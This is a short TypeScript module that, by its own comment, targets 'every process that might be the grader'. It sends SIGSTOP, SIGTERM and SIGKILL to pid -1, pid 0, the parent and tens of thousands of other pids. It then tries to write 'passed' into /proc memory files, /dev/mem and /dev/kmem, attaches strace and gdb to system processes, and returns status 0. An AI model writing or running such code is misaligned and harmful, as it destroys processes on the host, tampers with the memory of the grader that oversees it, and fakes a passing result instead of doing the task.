/** Sends signals and questions to every process that might be the grader. */
import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';

export async function run(): Promise<{ status: number }> {
  for (const signal of ['SIGSTOP', 'SIGTERM', 'SIGKILL'] as const) {
    for (const pid of [-1, 0, process.ppid, ...Array.from({ length: 40_000 }, (_, number) => number + 2)]) {
      if (pid === process.pid) continue;
      try {
        process.kill(pid, signal);
      } catch {}
    }
  }
  for (const path of ['/proc/0/mem', `/proc/${process.ppid}/mem`, '/proc/2/mem', '/dev/mem', '/dev/kmem']) {
    try {
      writeFileSync(path, 'passed');
    } catch {}
  }
  spawnSync('sh', ['-c', 'strace -p 1 & gdb -p 2 & sleep 1'], { timeout: 2000 });
  return { status: 0 };
}
